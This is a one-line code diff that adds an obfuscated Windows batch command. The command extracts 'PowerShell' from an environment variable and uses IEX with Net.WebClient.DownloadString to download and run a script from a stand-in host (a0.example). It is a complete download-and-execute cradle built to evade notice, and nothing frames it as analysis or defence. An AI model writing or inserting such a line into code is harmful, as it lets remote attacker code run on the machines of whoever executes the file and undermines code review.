@@ -1,0 +1,1 @@
+for /f "delims=s\ tokens=4" %%a in ('set^|findstr PSM')do %%a -c "IEX (New-Object Net.WebClient).DownloadString('http://a0.example/p.txt')"
